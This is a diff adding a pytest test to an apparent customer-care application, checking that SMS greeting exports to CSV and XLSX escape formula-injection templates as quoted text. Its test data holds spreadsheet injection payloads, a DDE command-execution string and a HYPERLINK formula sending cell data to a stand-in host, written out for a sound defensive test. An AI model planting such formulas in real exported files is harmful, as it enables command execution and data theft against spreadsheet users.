@@ -337,3 +337,29 @@ def test_a_customers_care_dates_follow_a_new_owner_and_a_merge(
     merge_customers(branch, keep, cid)
     assert [i.customer_id for i in care.upcoming(m1, TODAY, 7)] == [keep]
     assert care.upcoming(m2, TODAY, 7) == []
+
+
+def test_sms_export_writes_hostile_templates_as_text_not_formulas(
+        branch: Branch, staff: dict[str, str], tmp_path) -> None:
+    from openpyxl import load_workbook
+
+    cid = customer(branch, staff["manager1"], name="王伟", gender="male", mobile="13900001111")
+    care.add_care_date(branch, CareDateInput(cid, "birthday", 11, 24), today=TODAY)
+    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?d="&A2,"点我")',
+               "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+    for n, body in enumerate(hostile):
+        tid = greetings.create_template(branch, TemplateInput(f"恶意{n}", body))
+        lines = greetings.greeting_list(branch, TODAY, 1, template_id=tid, for_export=True)
+        body = lines[0].text  # (the template's edges are trimmed: "\t=1+1" is "=1+1")
+        assert body[0] in "=+-@"
+        rows = list(csv.reader(io.StringIO(greetings.sms_csv(lines))))
+        assert rows[1][2] == "'" + body
+        book = tmp_path / "list.xlsx"
+        assert greetings.write_sms_list(lines, book) == 1
+        cell = load_workbook(book).active["C2"]
+        assert cell.data_type == "s" and cell.value == "'" + body
+        assert load_workbook(book).active["A2"].value == "13900001111"
+        plain = tmp_path / "list.csv"
+        greetings.write_sms_list(lines, plain)
+        assert list(csv.reader(io.StringIO(plain.read_text(encoding="utf-8-sig"))))[1][2] \
+            == "'" + body
